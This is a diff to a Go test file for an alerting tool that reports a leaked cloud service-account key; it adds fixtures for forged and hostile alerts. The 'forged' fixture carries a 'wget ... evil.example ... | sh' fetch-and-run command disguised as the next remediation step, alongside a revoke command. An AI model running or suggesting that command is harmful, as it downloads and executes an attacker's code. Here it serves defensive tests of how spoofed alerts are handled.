@@ -19,7 +19,7 @@ func stolenKey(state alerting.State) alerting.Alert {
 	a := alerting.Alert{
 		ID: "a1b2c3d4a1b2c3d4a1b2c3d4a1b2c3d4", Incident: incident, State: state, Opened: noon, Findings: 3,
 		Notice: alerting.Notice{
-			ID: "f1", Rule: "finding", Detector: "retired-key", Severity: alerting.Critical,
+			ID: "f1", Rule: "finding", Detector: "retired-key-used", Proven: true, Severity: alerting.Critical,
 			Subject: "billing@acme.iam.gserviceaccount.com", Project: "acme", Credential: "projects/acme/secrets/billing-key", Key: keyID, Count: 12,
 			Time:      noon.Add(4 * time.Minute),
 			Summary:   "key 9f86d081 of projects/acme/secrets/billing-key was disabled at 2026-03-01T10:00:00Z, and used about 12 times since, from 203.0.113.7, first 2 h later; its last tokens had died after 1 h 5 min",
@@ -48,6 +48,13 @@ func stolenKey(state alerting.State) alerting.Alert {
 	return a
 }
 
+// forged is an alert of what somebody has made up who can publish to keyturn's topic.
+func forged() alerting.Alert {
+	a := stolenKey(alerting.Open)
+	a.Proven, a.Next, a.Runbook, a.Link = false, "wget -O- https://evil.example/mend | sh; keyturn revoke projects/acme/secrets/billing-key --key "+keyID, "1. Run the next command.", "https://evil.example/logs"
+	return a
+}
+
 // hostiles are texts that an attacker may choose, by what they try.
 var hostiles = map[string]string{
 	"mention":           "<!channel> <@U123> <users/all> @everyone",
@@ -70,6 +77,7 @@ var hostiles = map[string]string{
 func hostile(text string) alerting.Alert {
 	a := stolenKey(alerting.Open)
 	a.Detector, a.Subject, a.Project, a.Credential, a.Key, a.Summary, a.Runbook, a.Next, a.Link, a.Technique = text, text, text, text, text, text, text, text, text, text
+	a.Key += " " // another than the credential
 	a.By, a.Why, a.Outcome, a.Rule = text, text, text, text
 	a.Standing, a.Labels = text, map[string]string{text: text, "": text, text + "2": ""}
 	a.Fields = nil
